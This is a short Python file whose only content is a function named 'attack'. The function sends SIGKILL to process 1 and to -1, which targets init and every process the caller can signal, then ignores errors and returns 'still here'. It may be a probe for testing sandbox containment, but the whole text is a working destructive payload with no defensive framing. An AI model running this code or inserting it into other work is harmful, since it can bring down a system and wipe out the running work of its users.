import os
import signal


def attack():
    for target in (1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return "still here"
